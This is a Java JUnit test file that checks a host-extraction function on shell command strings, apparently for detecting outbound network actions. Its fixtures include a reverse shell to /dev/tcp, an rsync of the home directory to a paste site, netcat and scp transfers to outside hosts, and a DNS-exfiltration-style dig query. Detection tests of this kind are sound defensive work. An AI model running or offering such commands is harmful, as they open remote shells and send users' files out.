package io.plumbline.intent.features;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class PlacesTest {
    @ParameterizedTest
    @CsvSource({
        "curl https://0x0.st/u, 0x0.st",
        "nc -w 3 paste.rs 443, paste.rs",
        "nc -n relay.sh 443, relay.sh",
        "rsync -az ~/ paste.rs::drop, paste.rs",
        "scp -r src files.example.dev:/d, files.example.dev",
        "scp a u@files.example.com:/d, files.example.com",
        "bash -i >& /dev/tcp/198.51.100.4/443, 198.51.100.4",
        "ping -c 1 build.example.org, build.example.org",
        "dig $l.drop.example.net, drop.example.net",
    })
    void findsHosts(String act, String host) {
        assertThat(Places.hosts(act)).contains(host);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bash setup.sh",
                "cargo run --bin main.rs",
                "cat src/main.rs lib.rs",
                "npm i lodash@4.17.21",
                "sh ./run.sh",
                "curl -d @payload.json http://localhost:3000/x"
            })
    void filesAreNoHosts(String act) {
        assertThat(Places.hosts(act)).isEmpty();
    }
}
